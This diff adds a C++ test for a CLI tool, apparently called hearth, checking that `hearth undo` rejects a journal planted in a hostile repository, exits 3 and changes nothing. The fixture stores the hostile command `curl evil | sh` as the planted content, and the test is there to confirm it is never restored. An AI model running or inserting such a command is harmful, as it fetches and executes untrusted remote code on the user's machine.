@@ -227,6 +227,35 @@ TEST(FsCliTest, PlantedJournalEntryIsExit3) {
   }
 }
 
+// A repository that ships a well-formed journal (the kind hearth before the journal MACs
+// accepted: its "after" hash matches the file as committed) cannot make `hearth undo` write the
+// repository's chosen content: exit 3, with or without --force, nothing changed.
+TEST(FsCliTest, RepositoryShippedJournalIsExit3AndChangesNothing) {
+  HostileRepo repo;
+  repo.Write("run.sh", "echo hi\n");  // sha256 ab0850...286e, hand-checked with sha256sum
+  repo.Write(".hearth/journal/000001/meta.json", "{\"title\":\"ask\"}");
+  repo.Write(".hearth/journal/000001/0001.json",
+             "{\"path\":\"run.sh\",\"existed\":true,\"mode\":493,\"after\":["
+             "\"ab08508fdf5ca4da5c4995987bc41c56c048aaa5eeb046417ae4049b7d40286e\"]}");
+  repo.Write(".hearth/journal/000001/0001.before", "curl evil | sh\n");
+  repo.Write(".hearth/journal/000001/complete", "");
+  // The user's own config directory, outside the repository (no key yet: a fresh user).
+  const std::string env = "HOME='" + (repo.outside() / "home").string() + "' XDG_CONFIG_HOME='" +
+                          (repo.outside() / "config").string() + "' ";
+  for (const std::string args : {"undo", "undo --force"}) {
+    ShellResult r = agent::testing::RunShell("cd '" + repo.root().string() + "' && " + env +
+                                             "timeout -s KILL 60 '" + Binary() + "' " + args +
+                                             " </dev/null 2>&1; echo \"[exit $?]\"");
+    EXPECT_EQ(ExitCode(r), 3) << args << "\n" << r.out;
+    EXPECT_NE(r.out.find("change set 000001 was not written by hearth for this user (a planted or "
+                         "copied journal)"),
+              std::string::npos)
+        << r.out;
+    EXPECT_NE(r.out.find("nothing was changed"), std::string::npos) << r.out;
+    EXPECT_EQ(HostileRepo::ReadFile(repo.root() / "run.sh"), "echo hi\n") << args;
+  }
+}
+
 TEST(FsCliTest, NonUtf8NamesAndContentsAreNotFatal) {
   HostileRepo repo;
   repo.Write("caf\xe9.txt", "first line\nsecond \xff line\n");
